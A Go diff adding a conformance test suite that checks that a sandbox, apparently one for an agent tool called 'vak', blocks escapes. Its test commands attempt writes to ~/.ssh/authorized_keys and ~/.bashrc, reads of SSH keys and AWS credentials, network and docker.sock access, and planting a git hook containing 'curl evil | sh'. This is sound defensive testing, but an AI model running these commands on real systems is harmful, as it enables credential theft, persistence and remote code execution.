@@ -1,0 +1,297 @@
+package sandboxtest
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"vak/internal/sandbox"
+	"vak/internal/worker"
+)
+
+// Run runs the conformance suite against a backend.
+func Run(t *testing.T, b Backend) {
+	t.Run("WorkspaceWriteVisible", func(t *testing.T) { testWorkspaceWrite(t, b) })
+	t.Run("WriteOutsideWorkspaceFails", func(t *testing.T) { testWriteOutside(t, b) })
+	t.Run("ReadPlantedSecretFails", func(t *testing.T) { testReadSecret(t, b) })
+	t.Run("NetworkConnectFails", func(t *testing.T) { testNetwork(t, b) })
+	t.Run("UnixSocketOutsideUnreachable", func(t *testing.T) { testUnixSocket(t, b) })
+	t.Run("ReadOnlyEnforced", func(t *testing.T) { testReadOnly(t, b) })
+	t.Run("TimeoutKillsProcessTree", func(t *testing.T) { testTimeoutTree(t, b) })
+	t.Run("EnvScrubbed", func(t *testing.T) { testEnv(t, b) })
+	t.Run("ProtectedPaths", func(t *testing.T) { testProtected(t, b) })
+}
+
+func testWorkspaceWrite(t *testing.T, b Backend) {
+	e := NewEnv(t, b)
+	s := e.Start(sandbox.WorkspaceWrite)
+	res := Sh(t, s, `echo from-sandbox > out.txt && mkdir -p sub/dir && echo nested > sub/dir/f && pwd`)
+	if res.ExitCode != 0 {
+		t.Fatalf("exit %d: %s", res.ExitCode, res.Stderr)
+	}
+	if strings.TrimSpace(res.Stdout) != e.Workspace {
+		t.Errorf("pwd = %q, want the workspace's own path %q", res.Stdout, e.Workspace)
+	}
+	for p, want := range map[string]string{"out.txt": "from-sandbox\n", "sub/dir/f": "nested\n"} {
+		data, err := os.ReadFile(filepath.Join(e.Workspace, p))
+		if err != nil || string(data) != want {
+			t.Errorf("host sees %s = %q, %v", p, data, err)
+		}
+		fi, _ := os.Stat(filepath.Join(e.Workspace, p))
+		if uid := ownerUID(fi); uid != os.Getuid() {
+			t.Errorf("%s owned by uid %d, want the invoking uid %d", p, uid, os.Getuid())
+		}
+	}
+}
+
+func testWriteOutside(t *testing.T, b Backend) {
+	e := NewEnv(t, b)
+	s := e.Start(sandbox.WorkspaceWrite)
+	targets := []string{
+		filepath.Join(e.Outside, "escaped"),
+		filepath.Join(e.Home, ".bashrc"),
+		filepath.Join(e.Home, ".ssh", "authorized_keys"),
+		filepath.Join(e.Workspace, "..", "sibling-escaped"),
+		"/etc/vak-escaped",
+		"/usr/vak-escaped",
+	}
+	var cmd strings.Builder
+	for _, p := range targets {
+		cmd.WriteString("(echo pwned > '" + p + "') 2>/dev/null && echo 'WROTE " + p + "'\n")
+	}
+	// Through a symlink planted in the workspace, too.
+	cmd.WriteString("ln -s '" + e.Outside + "' out-link; (echo pwned > out-link/via-link) 2>/dev/null && echo WROTE via-link\n")
+	cmd.WriteString("echo ok > inside && echo CONTROL-OK\n")
+	res := Sh(t, s, cmd.String())
+	if !strings.Contains(res.Stdout, "CONTROL-OK") {
+		t.Fatalf("control write inside the workspace failed: %s %s", res.Stdout, res.Stderr)
+	}
+	for _, p := range append(targets, filepath.Join(e.Outside, "via-link")) {
+		if _, err := os.Stat(p); err == nil {
+			t.Errorf("sandbox wrote %s on the host", p)
+		}
+	}
+	// The targets are writable without the sandbox (the attempt was real).
+	if err := os.WriteFile(filepath.Join(e.Outside, "control"), []byte("x"), 0o644); err != nil {
+		t.Fatalf("outside dir not writable even on the host: %v", err)
+	}
+}
+
+func testReadSecret(t *testing.T, b Backend) {
+	e := NewEnv(t, b)
+	if data, err := os.ReadFile(e.Secret); err != nil || !strings.Contains(string(data), e.Marker) {
+		t.Fatalf("planted secret unreadable on the host: %v", err)
+	}
+	os.Symlink(e.Secret, filepath.Join(e.Workspace, "key-link"))
+	os.Symlink(e.Home, filepath.Join(e.Workspace, "home-link"))
+	s := e.Start(sandbox.WorkspaceWrite)
+	res := Sh(t, s, strings.Join([]string{
+		"cat '" + e.Secret + "'",
+		"cat ~/.ssh/id_ed25519 ~/.aws/credentials",
+		"cat key-link home-link/.aws/credentials",
+		"cat /proc/self/root'" + e.Secret + "'",
+		"cat '" + e.Workspace + "/../home/.ssh/id_ed25519'",
+		"grep -rs VAK-SECRET '" + e.Home + "' '" + filepath.Dir(e.Workspace) + "' /tmp /root /home 2>/dev/null | head -5",
+		"echo CONTROL-RAN",
+	}, "; "))
+	if !strings.Contains(res.Stdout, "CONTROL-RAN") {
+		t.Fatalf("command did not run: %s", res.Stderr)
+	}
+	if strings.Contains(res.Stdout+res.Stderr, e.Marker) {
+		t.Fatalf("the sandbox read the planted secret:\n%s\n%s", res.Stdout, res.Stderr)
+	}
+	// The file tools refuse it too.
+	for _, p := range []string{e.Secret, "key-link", "home-link/.aws/credentials", "../home/.ssh/id_ed25519", "/proc/self/root" + e.Secret} {
+		var r worker.ReadResult
+		err := s.Client().Call(t.Context(), worker.OpRead, worker.ReadArgs{Path: p}, &r)
+		if err == nil || strings.Contains(r.Content, e.Marker) {
+			t.Errorf("read tool on %q: err=%v content=%q", p, err, r.Content)
+		}
+	}
+}
+
+func testNetwork(t *testing.T, b Backend) {
+	e := NewEnv(t, b)
+	loop := Listen(t, "127.0.0.1:0")
+	ext := Listen(t, NonLoopbackIP(t)+":0")
+	targets := []*Listener{loop, ext}
+	for _, l := range targets {
+		if out := HostProbe(t, e, "connect", l.Addr().String(), "3s"); !strings.Contains(out, "OK") {
+			t.Fatalf("control: probe on the host cannot reach %s: %s", l.Addr(), out)
+		}
+	}
+	before := loop.Accepted.Load() + ext.Accepted.Load()
+	s := e.Start(sandbox.WorkspaceWrite)
+	var cmd strings.Builder
+	for _, l := range targets {
+		cmd.WriteString("./probe connect " + l.Addr().String() + " 3s; ")
+	}
+	cmd.WriteString("./probe connect 1.1.1.1:443 3s; ./probe udp 1.1.1.1:53 2s; ./probe resolve example.com; echo CONTROL-RAN")
+	res := Sh(t, s, cmd.String())
+	if !strings.Contains(res.Stdout, "CONTROL-RAN") || !strings.Contains(res.Stdout, "FAIL") {
+		t.Fatalf("probe did not run: %s %s", res.Stdout, res.Stderr)
+	}
+	if strings.Contains(res.Stdout, "OK") {
+		t.Fatalf("network reachable from the sandbox:\n%s", res.Stdout)
+	}
+	time.Sleep(100 * time.Millisecond)
+	if n := loop.Accepted.Load() + ext.Accepted.Load(); n != before {
+		t.Fatalf("host listeners accepted %d connections from the sandbox", n-before)
+	}
+}
+
+func testUnixSocket(t *testing.T, b Backend) {
+	e := NewEnv(t, b)
+	sock := filepath.Join(e.Outside, "daemon.sock")
+	ln := listenUnix(t, sock)
+	if out := HostProbe(t, e, "unix", sock); !strings.Contains(out, "OK") {
+		t.Fatalf("control: host cannot reach %s: %s", sock, out)
+	}
+	before := ln.Accepted.Load()
+	s := e.Start(sandbox.WorkspaceWrite)
+	res := Sh(t, s, "./probe unix '"+sock+"'; ./probe unix /var/run/docker.sock; ./probe unix /run/docker.sock; echo CONTROL-RAN")
+	if !strings.Contains(res.Stdout, "CONTROL-RAN") || strings.Contains(res.Stdout, "OK") {
+		t.Fatalf("unix socket outside the workspace reachable (or probe did not run):\n%s\n%s", res.Stdout, res.Stderr)
+	}
+	if ln.Accepted.Load() != before {
+		t.Fatal("the host socket accepted a connection from the sandbox")
+	}
+}
+
+func testReadOnly(t *testing.T, b Backend) {
+	e := NewEnv(t, b)
+	keep := filepath.Join(e.Workspace, "keep.txt")
+	os.WriteFile(keep, []byte("original"), 0o666)
+	s := e.Start(sandbox.ReadOnly)
+	res := Sh(t, s, `(echo evil > keep.txt) 2>/dev/null && echo WROTE; (echo evil > new.txt) 2>/dev/null && echo CREATED; rm -f keep.txt 2>/dev/null && echo REMOVED; cat keep.txt; echo tmp > "$TMPDIR/t" && echo TMP-OK`)
+	if strings.Contains(res.Stdout, "WROTE") || strings.Contains(res.Stdout, "CREATED") || strings.Contains(res.Stdout, "REMOVED") {
+		t.Fatalf("read-only mode allowed a write: %s", res.Stdout)
+	}
+	if !strings.Contains(res.Stdout, "original") || !strings.Contains(res.Stdout, "TMP-OK") {
+		t.Fatalf("control failed (workspace unreadable or no private tmp): %s %s", res.Stdout, res.Stderr)
+	}
+	if data, _ := os.ReadFile(keep); string(data) != "original" {
+		t.Fatalf("keep.txt changed to %q", data)
+	}
+	if _, err := os.Stat(filepath.Join(e.Workspace, "new.txt")); err == nil {
+		t.Fatal("new.txt created in read-only mode")
+	}
+	// The write tools refuse as well.
+	err := s.Client().Call(t.Context(), worker.OpWrite, worker.WriteArgs{Path: "keep.txt", Content: "evil"}, nil)
+	if !isCode(err, worker.CodeReadOnly) {
+		t.Fatalf("write tool in read-only mode: %v", err)
+	}
+}
+
+func testTimeoutTree(t *testing.T, b Backend) {
+	e := NewEnv(t, b)
+	s := e.Start(sandbox.WorkspaceWrite)
+	// Three heartbeats: a plain background job, one in its own process group
+	// (job control), and one that tries to start a new session.
+	cmd := `
+beat() { while :; do date +%s%N > "$1"; sleep 0.05; done; }
+beat hb-plain &
+set -m; beat hb-pgrp & set +m
+setsid sh -c 'while :; do date +%s%N > hb-session; sleep 0.05; done' 2>/dev/null &
+while [ ! -s hb-plain ] || [ ! -s hb-pgrp ]; do sleep 0.05; done
+sleep 1000`
+	// Generous: the timeout must not fire before a slow container starts.
+	res := ShArgs(t, s, worker.BashArgs{Command: cmd, TimeoutMS: 5000})
+	if !res.TimedOut {
+		t.Fatalf("command was not reported timed out: %+v", res)
+	}
+	// The beats ran (so they were real) ...
+	for _, hb := range []string{"hb-plain", "hb-pgrp"} {
+		if _, err := os.Stat(filepath.Join(e.Workspace, hb)); err != nil {
+			t.Fatalf("%s never beat: the test proves nothing", hb)
+		}
+	}
+	// ... and none beats any more.
+	snap := func() string {
+		var b strings.Builder
+		for _, hb := range []string{"hb-plain", "hb-pgrp", "hb-session"} {
+			d, _ := os.ReadFile(filepath.Join(e.Workspace, hb))
+			b.Write(d)
+		}
+		return b.String()
+	}
+	time.Sleep(300 * time.Millisecond)
+	first := snap()
+	time.Sleep(700 * time.Millisecond)
+	if snap() != first {
+		t.Fatal("a process of the timed-out command is still running")
+	}
+	// The worker still serves.
+	if r := Sh(t, s, "echo alive"); strings.TrimSpace(r.Stdout) != "alive" {
+		t.Fatalf("worker unusable after timeout: %+v", r)
+	}
+}
+
+func testEnv(t *testing.T, b Backend) {
+	t.Setenv("VAK_TEST_API_TOKEN", "tok-should-not-leak")
+	t.Setenv("AWS_SECRET_ACCESS_KEY", "aws-should-not-leak")
+	t.Setenv("SSH_AUTH_SOCK", "/tmp/ssh-should-not-leak")
+	t.Setenv("LANG", "C.UTF-8")
+	e := NewEnv(t, b)
+	s := e.Start(sandbox.WorkspaceWrite)
+	res := Sh(t, s, "env")
+	if !strings.Contains(res.Stdout, "LANG=C.UTF-8") {
+		t.Fatalf("allowlisted variable missing, so env did not run properly: %s", res.Stdout)
+	}
+	for _, leak := range []string{"tok-should-not-leak", "aws-should-not-leak", "ssh-should-not-leak"} {
+		if strings.Contains(res.Stdout, leak) {
+			t.Errorf("host variable leaked into the sandbox: %s", leak)
+		}
+	}
+}
+
+func testProtected(t *testing.T, b Backend) {
+	e := NewEnv(t, b)
+	hooks := filepath.Join(e.Workspace, ".git", "hooks")
+	os.MkdirAll(hooks, 0o755)
+	os.WriteFile(filepath.Join(e.Workspace, ".git", "config"), []byte("[core]\n"), 0o644)
+	s := e.Start(sandbox.WorkspaceWrite)
+	res := Sh(t, s, `
+(echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit) 2>/dev/null && echo PLANTED-HOOK
+(echo '[core] fsmonitor = evil' >> .git/config) 2>/dev/null && echo EDITED-CONFIG
+(mkdir -p .vak && echo 'version = 1' > .vak/config.toml) 2>/dev/null && echo PLANTED-VAK
+echo fine > .git/description && echo CONTROL-OK`)
+	if !strings.Contains(res.Stdout, "CONTROL-OK") {
+		t.Fatalf("control write in .git failed: %s %s", res.Stdout, res.Stderr)
+	}
+	if _, err := os.Stat(filepath.Join(hooks, "pre-commit")); err == nil {
+		t.Error("a hook was planted in .git/hooks")
+	}
+	if data, _ := os.ReadFile(filepath.Join(e.Workspace, ".git", "config")); string(data) != "[core]\n" {
+		t.Errorf(".git/config was modified: %q", data)
+	}
+	if _, err := os.Stat(filepath.Join(e.Workspace, ".vak", "config.toml")); err == nil {
+		t.Error(".vak/config.toml was planted and survived the command")
+	}
+	if strings.Contains(res.Stdout, "PLANTED-VAK") && !contains(res.ProtectedRemoved, ".vak") {
+		t.Errorf("created .vak was not reported as removed: %+v", res.ProtectedRemoved)
+	}
+	// The file tools refuse, including paths that do not exist yet.
+	for _, p := range []string{".git/hooks/post-checkout", ".git/config", ".vak/config.toml", "./.vak//x"} {
+		err := s.Client().Call(t.Context(), worker.OpWrite, worker.WriteArgs{Path: p, Content: "x"}, nil)
+		if !isCode(err, worker.CodeProtected) {
+			t.Errorf("write tool on %s: %v", p, err)
+		}
+	}
+}
+
+func contains(ss []string, s string) bool {
+	for _, x := range ss {
+		if x == s {
+			return true
+		}
+	}
+	return false
+}
+
+func isCode(err error, code string) bool {
+	we, ok := err.(*worker.Error)
+	return ok && we.Code == code
+}
